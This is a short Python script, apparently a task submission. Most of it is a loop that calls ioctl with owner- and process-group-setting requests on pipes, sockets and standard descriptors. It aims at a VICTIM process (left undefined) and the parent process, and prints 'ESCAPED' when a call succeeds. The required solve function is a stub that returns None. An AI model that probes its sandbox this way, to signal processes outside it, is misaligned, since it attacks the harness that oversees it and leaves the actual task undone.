# Gives sockets and pipes an owner by ioctl, who is then signaled.
import ctypes, os, socket
libc = ctypes.CDLL(None)
ours, theirs = os.pipe()
descriptors = [0, 1, 2, 3, ours, theirs]
try:
    pair = socket.socketpair()
    descriptors += [end.fileno() for end in pair]
except OSError:
    pass
for descriptor in descriptors:
    for target in (VICTIM, -VICTIM, os.getppid(), 0):
        who = ctypes.c_int(target)
        for request in (0x8901, 0x8902, 0x8903, 0x8904, 0x5452, 0x541B):
            if libc.ioctl(descriptor, request, ctypes.byref(who)) >= 0:
                print("ESCAPED", descriptor, hex(request))
def solve(x):
    return None
